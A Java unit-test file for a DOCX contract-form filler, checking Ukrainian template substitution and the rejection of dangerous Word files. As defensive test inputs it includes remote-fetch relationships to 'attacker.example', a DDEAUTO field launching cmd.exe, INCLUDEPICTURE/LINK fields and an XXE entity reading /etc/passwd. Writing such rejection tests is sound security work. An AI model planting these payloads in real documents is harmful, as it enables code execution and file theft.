package dev.struktura.contracts.docx;

import static dev.struktura.contracts.docx.WordFile.paragraph;
import static dev.struktura.contracts.docx.WordFile.relationships;
import static dev.struktura.contracts.docx.WordFile.row;
import static org.assertj.core.api.Assertions.assertThat;

import dev.struktura.contracts.docx.DocxForm.Check;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DocxFormTest {

    private static final String OUT = "http://attacker.example/x";

    @Test
    void aFieldCutIntoRunsIsStillOneFieldAndKeepsTheLooksOfItsBeginning() {
        DocxForm form = form(paragraph("Між ", "{cli", "ent", ".name} і ", "{seller.name}", "."));

        byte[] filled = form.filled(Map.of("client.name", "Їжак & Ко <1>", "seller.name", "ТехФлоу"), List.of());

        assertThat(form.fields()).containsExactly("client.name", "seller.name", "contract.number");
        assertThat(WordFile.text(filled)).isEqualTo("Між Їжак &amp; Ко &lt;1&gt; і ТехФлоу.\n");
        assertThat(WordFile.part(filled, "word/document.xml")).contains("<w:b/>");
    }

    @Property(tries = 200)
    void whereverWordCutsTheTextTheResultIsTheSame(
            @ForAll @IntRange(max = 40) int first, @ForAll @IntRange(max = 40) int second) {
        String text = "А {client.name} {client.name} Б { deal.title }";
        int one = Math.min(Math.min(first, second), text.length());
        int two = Math.min(Math.max(first, second), text.length());
        DocxForm form = form(paragraph(text.substring(0, one), text.substring(one, two), text.substring(two)));

        byte[] filled = form.filled(Map.of("client.name", "{deal.title}!", "deal.title", "Склад"), List.of());

        assertThat(WordFile.text(filled)).isEqualTo("А {deal.title}! {deal.title}! Б Склад\n");
    }

    @Test
    void headersAreFilledToo() {
        byte[] filled = form(paragraph("Договір")).filled(Map.of("contract.number", "1042/1"), List.of());

        assertThat(WordFile.part(filled, "word/header1.xml")).contains("1042/1").doesNotContain("{");
    }

    @Test
    void aRowOfATableIsRepeatedForEachLine() {
        DocxForm form =
                form("<w:tbl>" + row("Що", "Сума") + row("{line.title}", "{line.sum} {client.name}") + "</w:tbl>");

        byte[] filled = form.filled(
                Map.of("client.name", "Їжак"),
                List.of(
                        Map.of("line.title", "Склад", "line.sum", "10"),
                        Map.of("line.title", "Навчання", "line.sum", "20")));

        assertThat(WordFile.text(filled)).isEqualTo("Що\nСума\nСклад\n10 Їжак\nНавчання\n20 Їжак\n");
    }

    @Test
    void aValueOfSeveralLinesBreaksThem() {
        byte[] filled =
                form(paragraph("{proposal.lines} кінець")).filled(Map.of("proposal.lines", "1. А\n2. Б"), List.of());

        assertThat(WordFile.text(filled)).isEqualTo("1. А\n2. Б кінець\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"word/vbaProject.bin", "word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin"})
    void programsAreRefused(String part) {
        assertThat(refusal(WordFile.of(paragraph("А")).with(part, "x").bytes())).isEqualTo("contracts.docx.program");
    }

    @Test
    void whatWordWouldFetchIsRefusedAndLinksThatPeopleClickAreNot() {
        String kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        String relation = "<Relationship Id=\"r9\" Type=\"%s\" Target=\"" + OUT + "\" TargetMode=\"External\"/>";

        for (String outside : List.of("image", "attachedTemplate", "frame", "subDocument", "oleObject")) {
            assertThat(refusal(with(relation.formatted(kind + outside)))).isEqualTo("contracts.docx.outside");
        }
        assertThat(DocxForm.check(with(relation.formatted(kind + "hyperlink")))).isInstanceOf(Check.Taken.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe \"/k calc\"</w:instrText></w:r></w:p>",
                "<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE"
                        + " x</w:instrText></w:r></w:p>",
                "<w:p><w:fldSimple w:instr=\" LINK Excel.Sheet x\"/></w:p>"
            })
    void instructionsThatFetchAreRefused(String body) {
        assertThat(refusal(WordFile.of(body).bytes())).isEqualTo("contracts.docx.outside");
    }

    @Test
    void aLinkWhoseAddressSaysLinkIsNoInstruction() {
        String body = "<w:p><w:r><w:instrText> HYPERLINK \"https://a.example/link\"</w:instrText></w:r></w:p>";

        assertThat(DocxForm.check(WordFile.of(body).bytes())).isInstanceOf(Check.Taken.class);
    }

    @Test
    void aDocumentThatUnpacksToTooMuchIsRefused() {
        String much = "0".repeat((int) DocxGuard.MOST_UNPACKED + 1);

        assertThat(refusal(WordFile.of(paragraph("А"))
                        .with("word/media/a.txt", much)
                        .bytes()))
                .isEqualTo("contracts.docx.bomb");
    }

    @Test
    void entitiesAreRefused() {
        String xxe = "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document"
                + " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>&x;"
                + "</w:t></w:r></w:p></w:body></w:document>";

        assertThat(refusal(WordFile.of("").with("word/document.xml", xxe).bytes()))
                .isEqualTo("contracts.docx.broken");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "PK", "%PDF-1.4", "<html/>", "PK\u0003\u0004aaaa"})
    void whatIsNoDocumentIsRefused(String file) {
        assertThat(refusal(file.getBytes(StandardCharsets.ISO_8859_1))).isEqualTo("contracts.docx.broken");
    }

    private static byte[] with(String relationship) {
        return WordFile.of(paragraph("А"))
                .with("word/_rels/document.xml.rels", relationships(relationship))
                .bytes();
    }

    private static String refusal(byte[] file) {
        return ((Check.Refused) DocxForm.check(file)).why().code();
    }

    private static DocxForm form(String body) {
        return ((Check.Taken) DocxForm.check(WordFile.of(body).bytes())).form();
    }
}
